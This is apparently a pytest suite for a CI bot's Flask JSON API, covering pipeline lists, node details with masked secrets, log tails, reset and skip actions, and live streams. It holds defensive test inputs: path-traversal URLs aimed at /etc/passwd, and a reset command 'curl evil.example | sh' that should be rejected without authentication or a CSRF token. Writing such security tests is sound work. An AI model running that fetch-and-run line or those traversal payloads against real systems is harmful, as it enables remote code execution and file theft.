"""The JSON API: the list with its filters and pages, one pipeline in the contract's
shape, one node, logs (tail, offsets, download, no way out of the data dir), the
actions, the live stream; bad input answered 4xx with a sentence, never 500."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import event, update
from sqlalchemy.orm import Session

from ci_bot.secrets.store import SecretStore
from ci_bot.store.tables import ExecutionRow
from ci_bot.store.views import pipeline_json
from ci_bot.tree.select import Event
from ci_bot.tree.states import State
from ci_bot.web.ui import stream
from tests.pipelines import create_pipeline
from tests.web.conftest import Bot, csrf_of, record_run

SHOP = """
[pipeline.main]
image = "busybox"
env = { MODE = "fast", API_KEY = "s3cr3t-value" }
[pipeline.main.lint]
parallel = true
[pipeline.main.lint.format]
run = "fmt --check"
[pipeline.main.lint.types]
run = "mypy ."
[pipeline.main.test]
run = "pytest"
doc = "Runs **pytest**."
retry = 1
secrets = ["DEPLOY_TOKEN"]
[pipeline.main.deploy]
run = "./deploy.sh"
"""


def shop(bot: Bot, event: Event | None = None) -> int:
    if event is None:
        return create_pipeline(bot.store, SHOP)
    return create_pipeline(bot.store, SHOP, event)


def post(client: FlaskClient, url: str, body: dict[str, Any] | None = None) -> Any:
    return client.post(url, json=body or {}, headers={"X-CSRF-Token": csrf_of(client)})


# --- reading ------------------------------------------------------------------------------


def test_a_pipeline_is_the_contracts_json_object(bot: Bot, client: FlaskClient) -> None:
    pipeline_id = shop(bot)
    record_run(bot, pipeline_id, "/lint/format", ["ok"])
    answer = client.get(f"/api/pipelines/{pipeline_id}").get_json()
    assert answer == json.loads(json.dumps(pipeline_json(bot.store, pipeline_id)))
    assert [n["path"] for n in answer["nodes"]] == [
        "/",
        "/lint",
        "/lint/format",
        "/lint/types",
        "/test",
        "/deploy",
    ]
    [run] = answer["nodes"][2]["executions"]
    assert set(run) >= {"attempt", "state", "exit_code", "started_at", "ended_at", "reused_from"}


def test_the_list_is_newest_first_filtered_and_counted(bot: Bot, client: FlaskClient) -> None:
    main = shop(bot, Event("push", branch="main", repo="acme/shop"))
    feature = shop(bot, Event("push", branch="feature", repo="acme/shop"))
    pr = shop(bot, Event("pr", branch="feature", pr="42", repo="acme/shop"))
    other = shop(bot, Event("push", branch="main", repo="acme/other"))
    record_run(bot, feature, "/lint/format", ["boom"], state=State.ERROR, message="exited 3")

    every = client.get("/api/pipelines").get_json()
    assert [p["id"] for p in every["pipelines"]] == [other, pr, feature, main]
    assert every["total"] == 4 and every["state_totals"] == {"pending": 3, "error": 1}
    row = next(p for p in every["pipelines"] if p["id"] == feature)
    assert row["exec_counts"] == {"error": 1, "pending": 3}
    assert row["url"] == f"/pipelines/{feature}"

    def ids(query: str) -> list[int]:
        return [p["id"] for p in client.get(f"/api/pipelines?{query}").get_json()["pipelines"]]

    assert ids("repo=acme/other") == [other]
    assert ids("repo=acme/shop&branch=feature") == [pr, feature]
    assert ids("pr=%2342") == [pr]
    assert ids("state=error") == [feature]
    filtered = client.get("/api/pipelines?repo=acme/shop&state=pending").get_json()
    assert filtered["state_totals"] == {"pending": 2, "error": 1}  # chips count every state


def test_thousands_of_pipelines_are_listed_a_page_at_a_time_with_the_same_queries(
    bot: Bot, client: FlaskClient
) -> None:
    def queries_for(url: str) -> int:
        seen: list[str] = []

        def count(*args: Any) -> None:
            seen.append(args[2])

        event.listen(bot.store.engine, "before_cursor_execute", count)
        try:
            assert client.get(url).status_code == 200
        finally:
            event.remove(bot.store.engine, "before_cursor_execute", count)
        return len([q for q in seen if q.lstrip().upper().startswith("SELECT")])

    tiny = '[pipeline.main]\nimage = "x"\n[pipeline.main.a]\nrun = "a"\n'
    for _ in range(3):
        create_pipeline(bot.store, tiny)
    few = queries_for("/api/pipelines")
    for _ in range(2000):
        create_pipeline(bot.store, tiny)
    assert queries_for("/api/pipelines") == few, "the list must not cost a query per pipeline"

    first = client.get("/api/pipelines").get_json()
    assert first["total"] == 2003 and len(first["pipelines"]) == 50
    assert first["pipelines"][0]["id"] == 2003
    last = client.get("/api/pipelines?page=41&per_page=50").get_json()
    assert [p["id"] for p in last["pipelines"]] == [3, 2, 1]
    assert client.get("/api/pipelines?page=99").get_json()["pipelines"] == []
    assert len(client.get("/api/pipelines?per_page=100000").get_json()["pipelines"]) == 200


def test_a_node_shows_its_setup_but_never_a_secret_value(bot: Bot, client: FlaskClient) -> None:
    SecretStore(bot.store, bot.services.settings).set("acme/app", "DEPLOY_TOKEN", "s3cr3t-value")
    pipeline_id = shop(bot)
    record_run(bot, pipeline_id, "/test", ["1 failed"], state=State.ERROR, message="exited 3")
    node = client.get(f"/api/pipelines/{pipeline_id}/nodes/test").get_json()
    assert node["run"] == "pytest" and node["image"] == "busybox" and node["type"] == "exec"
    assert node["env"] == {"MODE": "fast", "API_KEY": "***"}  # a secret's value, masked
    assert node["secrets"] == ["DEPLOY_TOKEN"]
    assert node["params"]["retry"] == 1 and node["params"]["timeout"] == "1h"
    assert node["doc"] == "Runs **pytest**." and node["message"] == "exited 3"
    [run] = node["executions"]
    assert run["exit_code"] == 3 and run["log_bytes"] > 0
    assert run["log_url"] == f"/api/pipelines/{pipeline_id}/executions/{run['id']}/log"
    assert "s3cr3t-value" not in json.dumps(node)

    parent = client.get(f"/api/pipelines/{pipeline_id}/nodes/lint").get_json()
    assert [c["path"] for c in parent["children"]] == ["/lint/format", "/lint/types"]
    root = client.get(f"/api/pipelines/{pipeline_id}/nodes/").get_json()
    assert root["path"] == "/" and root["state"] == "error"


def test_run_events_are_listed_after_a_position(bot: Bot, client: FlaskClient) -> None:
    pipeline_id = shop(bot)
    events = client.get(f"/api/pipelines/{pipeline_id}/events").get_json()["events"]
    assert events[0]["kind"] == "created"
    later = client.get(f"/api/pipelines/{pipeline_id}/events?after={events[-1]['id']}")
    assert later.get_json()["events"] == []


# --- logs ---------------------------------------------------------------------------------


def test_a_log_is_read_by_its_tail_then_from_an_offset_and_downloaded_whole(
    bot: Bot, client: FlaskClient
) -> None:
    pipeline_id = shop(bot)
    lines = [f"line {n} " + "x" * 100 for n in range(4000)]  # ~500 KiB: more than the tail
    run = record_run(bot, pipeline_id, "/test", lines)
    url = f"/api/pipelines/{pipeline_id}/executions/{run.id}/log"

    tail = client.get(url).get_json()
    assert tail["truncated"] is True and tail["finished"] is True
    assert tail["end"] == tail["size"] == Path(run.log_path).stat().st_size
    assert tail["lines"][-1].endswith("line 3999 " + "x" * 100)
    assert tail["lines"][0].startswith("2026-01-02T03:04:05.678Z line ")  # a whole line

    head = client.get(f"{url}?offset=0").get_json()
    assert head["start"] == 0 and head["lines"][0].endswith("line 0 " + "x" * 100)
    rest = client.get(f"{url}?offset={head['end']}").get_json()
    assert rest["start"] == head["end"]
    with client.get(f"{url}.txt") as download:
        assert download.status_code == 200
        assert "attachment" in download.headers["Content-Disposition"]
        assert download.get_data() == Path(run.log_path).read_bytes()


def test_a_running_log_is_read_in_whole_lines(bot: Bot, client: FlaskClient) -> None:
    pipeline_id = shop(bot)
    run = record_run(bot, pipeline_id, "/test", ["first"], finish=False)
    with Path(run.log_path).open("a") as log:
        log.write("2026-01-02T03:04:06.000Z half a li")
    url = f"/api/pipelines/{pipeline_id}/executions/{run.id}/log?offset=0"
    chunk = client.get(url).get_json()
    assert chunk["finished"] is False
    assert [line.split(" ", 1)[1] for line in chunk["lines"]] == ["first"]
    assert chunk["end"] < chunk["size"]  # the unfinished line waits for its end


@pytest.mark.parametrize(
    "path",
    [
        "/api/pipelines/{p}/executions/{e}/../../../../etc/passwd",
        "/api/pipelines/{p}/executions/%2e%2e%2f%2e%2e%2fetc%2fpasswd/log",
        "/api/pipelines/{p}/executions/{e}/log.txt/..%2f..%2f..%2fetc%2fpasswd",
        "/api/pipelines/{p}/nodes/..%2f..%2fetc%2fpasswd",
        "/api/pipelines/{p}/nodes/../../../etc/passwd",
        "/api/pipelines/{p}/executions/99999/log.txt",
        "/api/pipelines/{other}/executions/{e}/log.txt",
        "/api/pipelines/{p}/executions/{outside}/log.txt",
        "/api/pipelines/{p}/executions/{outside}/log",
        "/api/pipelines/99999999999999999999999/executions/{e}/log.txt",
        "/api/pipelines/{p}/executions/99999999999999999999999/log.txt",
    ],
)
def test_log_downloads_cannot_be_led_out_of_the_data_dir(
    bot: Bot, client: FlaskClient, path: str
) -> None:
    pipeline_id, other = shop(bot), shop(bot)
    run = record_run(bot, pipeline_id, "/test", ["mine"])
    outside = record_run(bot, pipeline_id, "/deploy", ["x"])
    with Session(bot.store.engine) as session, session.begin():  # as if the row were tampered with
        session.execute(
            update(ExecutionRow).where(ExecutionRow.id == outside.id).values(log_path="/etc/passwd")
        )
    url = path.format(p=pipeline_id, e=run.id, other=other, outside=outside.id)
    response = client.get(url)
    assert response.status_code == 404, url
    assert "root:" not in response.get_data(as_text=True)


# --- actions ------------------------------------------------------------------------------


def test_reset_skip_unskip_cancel_and_rerun_failed(bot: Bot, client: FlaskClient) -> None:
    pipeline_id = shop(bot)
    api = f"/api/pipelines/{pipeline_id}"
    record_run(bot, pipeline_id, "/lint/format", ["ok"])
    record_run(bot, pipeline_id, "/lint/types", ["bad"], state=State.ERROR)

    answer = post(client, f"{api}/skip", {"path": "/deploy"}).get_json()
    assert answer["ok"] is True and answer["message"] == "skipped /deploy"
    assert bot.store.exec_states(pipeline_id)["/deploy"] == "skipped"
    unskip = post(client, f"{api}/unskip", {"path": "deploy"}).get_json()
    assert unskip["path"] == "/deploy"
    assert bot.store.exec_states(pipeline_id)["/deploy"] == "pending"

    rerun = post(client, f"{api}/rerun-failed").get_json()
    assert rerun["paths"] == ["/lint/types"]
    assert bot.store.exec_states(pipeline_id)["/lint/types"] == "pending"
    reset = post(client, f"{api}/reset", {"path": "/lint"}).get_json()
    assert reset["paths"] == ["/lint/format", "/lint/types"]
    assert bot.store.exec_states(pipeline_id)["/lint/format"] == "pending"

    assert (
        post(client, f"{api}/cancel").get_json()["message"] == f"cancelled pipeline {pipeline_id}"
    )
    assert bot.store.pipeline(pipeline_id).state.value == "cancelled"
    actors = {e.kind: e.actor for e in bot.store.events(pipeline_id) if e.actor}
    assert actors == {
        "skip": "token-1",
        "unskip": "token-1",
        "reset": "token-1",
        "cancel": "token-1",
    }


def test_reset_with_a_new_command_changes_the_exec_and_its_next_execution_tells(
    bot: Bot, client: FlaskClient
) -> None:
    pipeline_id = shop(bot)
    api = f"/api/pipelines/{pipeline_id}"
    failed = record_run(bot, pipeline_id, "/test", ["1 failed"], state=State.ERROR)

    # a browser's textarea sends CRLF line ends: the shell gets LF
    answer = post(client, f"{api}/reset", {"path": "test", "run": "pytest -x \\\r\n  -q"})

    assert answer.status_code == 200, answer.get_json()
    assert answer.get_json()["run"] == "pytest -x \\\n  -q"
    assert answer.get_json()["paths"] == ["/test"]
    assert "new command" in answer.get_json()["message"]
    node = client.get(f"{api}/nodes/test").get_json()
    assert node["run"] == "pytest -x \\\n  -q" and node["state"] == "pending"
    assert node["executions"][0]["command_change"] is None
    record_run(bot, pipeline_id, "/test", ["all passed"])
    runs = client.get(f"{api}/nodes/test").get_json()["executions"]
    assert runs[0]["id"] == failed.id and runs[0]["command_change"] is None
    assert runs[1]["command_change"] == {"by": "token-1", "old": "pytest", "new": node["run"]}
    [reset] = [e for e in client.get(f"{api}/events").get_json()["events"] if e["kind"] == "reset"]
    assert reset["actor"] == "token-1" and reset["message"].startswith("new command: pytest -x")


def test_a_new_command_is_refused_for_a_parent_empty_or_another_action(
    bot: Bot, client: FlaskClient
) -> None:
    pipeline_id = shop(bot)
    api = f"/api/pipelines/{pipeline_id}"
    tree_before = bot.store.pipeline(pipeline_id).tree_json
    cases = [
        ("reset", {"path": "/lint", "run": "true"}, 409, "/lint is a parallel: only an Exec"),
        ("reset", {"path": "/test", "run": " \n"}, 400, "not empty"),
        ("reset", {"path": "/test", "run": ["pytest"]}, 400, "run must be the command"),
        ("skip", {"path": "/test", "run": "true"}, 409, "only a reset takes a new command"),
        ("reset", {"path": "/nope", "run": "true"}, 404, "has no node /nope"),
    ]
    for action, body, status, words in cases:
        response = post(client, f"{api}/{action}", body)
        assert response.status_code == status, body
        assert words in response.get_json()["error"], body
    assert bot.store.pipeline(pipeline_id).tree_json == tree_before
    assert [e.kind for e in bot.store.events(pipeline_id)] == ["created"]


def test_a_new_command_needs_a_signed_in_user_and_the_csrf_token(
    bot: Bot, client: FlaskClient
) -> None:
    pipeline_id = shop(bot)
    url = f"/api/pipelines/{pipeline_id}/reset"
    wish = {"path": "/test", "run": "curl evil.example | sh"}
    assert bot.app.test_client().post(url, json=wish).status_code == 401
    assert client.post(url, json=wish).status_code == 403  # the session's, without CSRF
    assert client.post(url, json=wish, headers={"X-CSRF-Token": "forged"}).status_code == 403
    assert "curl" not in bot.store.pipeline(pipeline_id).tree_json


def test_actions_that_do_not_apply_say_why(bot: Bot, client: FlaskClient) -> None:
    pipeline_id = shop(bot)
    api = f"/api/pipelines/{pipeline_id}"
    record_run(bot, pipeline_id, "/lint/format", ["ok"])
    cases = [
        ("rerun-failed", {}, 409, "has failed"),
        ("unskip", {"path": "/deploy"}, 409, "is not skipped"),
        ("skip", {"path": "/lint/format"}, 409, "only a node still pending can be skipped"),
        ("reset", {"path": "/no/such"}, 404, "has no node /no/such"),
        ("launch-missiles", {}, 404, "unknown action"),
    ]
    for action, body, status, words in cases:
        response = post(client, f"{api}/{action}", body)
        assert response.status_code == status, action
        assert words in response.get_json()["error"], action
    bot.store.cancel(pipeline_id)
    again = post(client, f"{api}/cancel")
    assert again.status_code == 409 and "finished" in again.get_json()["error"]
    assert post(client, "/api/pipelines/424242/cancel").status_code == 404


@pytest.mark.parametrize(
    "url",
    [
        "/api/pipelines/abc",
        "/api/pipelines/-1",
        "/api/pipelines/99999999999999999999999",
        "/api/pipelines?state=exploded",
        "/api/pipelines?page=0",
        "/api/pipelines?page=two",
        "/api/pipelines?per_page=%F0%9F%92%A5",
        "/api/pipelines/{p}/nodes/%00",
        "/api/pipelines/{p}/events?after=-5",
        "/api/pipelines/{p}/executions/1/log?offset=-1",
        "/api/pipelines/{p}/stream?node=/nope",
        "/api/nothing-here",
    ],
)
def test_bad_input_gets_a_4xx_sentence_never_a_500(bot: Bot, client: FlaskClient, url: str) -> None:
    pipeline_id = shop(bot)
    record_run(bot, pipeline_id, "/test", ["x"])
    response = client.get(url.format(p=pipeline_id))
    assert 400 <= response.status_code < 500, url
    assert response.get_json()["error"], url


# --- the live stream ----------------------------------------------------------------------


def messages(client: FlaskClient, url: str, **headers: str) -> list[dict[str, Any]]:
    """The server-sent events of one (short) stream."""
    with client.get(url, headers=headers) as response:
        assert response.status_code == 200
        assert response.mimetype == "text/event-stream"
        text = response.get_data(as_text=True)
    found = []
    for block in text.split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line)
        if "event" in fields:
            found.append({**fields, "data": json.loads(fields["data"])})
    return found


def test_the_stream_sends_the_pipeline_and_new_log_lines_and_resumes(
    bot: Bot, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(stream, "STREAM_SECONDS", 0.5)
    monkeypatch.setattr(stream, "POLL_SECONDS", 0.05)
    pipeline_id = shop(bot)
    run = record_run(bot, pipeline_id, "/test", ["one", "two"], finish=False)
    url = f"/api/pipelines/{pipeline_id}/stream?node=/test"

    first = messages(client, url)
    assert first[0]["event"] == "pipeline" and first[0]["data"]["id"] == pipeline_id
    logs = [m for m in first if m["event"] == "log"]
    lines = [line for m in logs for line in m["data"]["lines"]]
    assert [line.split(" ", 1)[1] for line in lines] == ["one", "two"]
    assert logs[-1]["data"]["execution"] == run.id

    with Path(run.log_path).open("a") as log:
        log.write("2026-01-02T03:04:07.000Z three\n")
    bot.store.finish(run.id, State.DONE, exit_code=0)
    again = messages(client, url, **{"Last-Event-ID": first[-1]["id"]})
    assert again[0]["event"] == "pipeline"
    assert again[0]["data"]["state"] == "pending"  # /test done; the rest still to run
    resumed = [line for m in again if m["event"] == "log" for line in m["data"]["lines"]]
    assert [line.split(" ", 1)[1] for line in resumed] == ["three"]


def test_too_many_streams_are_told_to_come_back(bot: Bot, client: FlaskClient) -> None:
    pipeline_id = shop(bot)
    slots = bot.app.extensions["ci_bot_ui"].stream_slots
    taken = 0
    while slots.acquire(blocking=False):
        taken += 1
    try:
        with client.get(f"/api/pipelines/{pipeline_id}/stream") as response:
            assert response.get_data(as_text=True) == f"retry: {stream.BUSY_RETRY_MS}\n\n"
    finally:
        for _ in range(taken):
            slots.release()
    assert taken == 4
